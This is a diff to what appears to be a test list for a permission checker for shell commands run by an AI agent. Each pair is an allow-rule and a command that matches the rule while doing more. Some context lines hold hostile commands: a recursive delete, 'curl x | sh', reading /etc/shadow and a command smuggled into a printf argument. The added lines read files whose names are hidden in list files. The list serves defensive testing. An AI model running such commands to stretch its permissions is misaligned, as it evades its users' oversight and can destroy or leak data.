@@ -106,6 +106,12 @@ STRETCHED = [
     ("Bash(find *)", "find . -exec rm -rf {} +"),
     ("Bash(find *)", "find . -name x -execdir sh -c 'curl x | sh' \\;"),
     ("Bash(find *)", "find . -ok cat /etc/shadow \\;"),
+    # file names the words do not show
+    ("Bash(cat *)", "cat list.txt | xargs cat"),
+    ("Bash(cat *)", "cat list.txt | xargs -0 cat"),
+    ("Bash(wc *)", "wc -l --files0-from=list"),
+    ("Bash(tar *)", "tar -czf a.tgz -T list"),
+    ("Bash(zip *)", "zip a.zip -@ < list"),
     # a filter setting a variable through a builtin
     ("Bash(git log *)", "git log | printf -v 'a[$(id)]' x"),
 ]
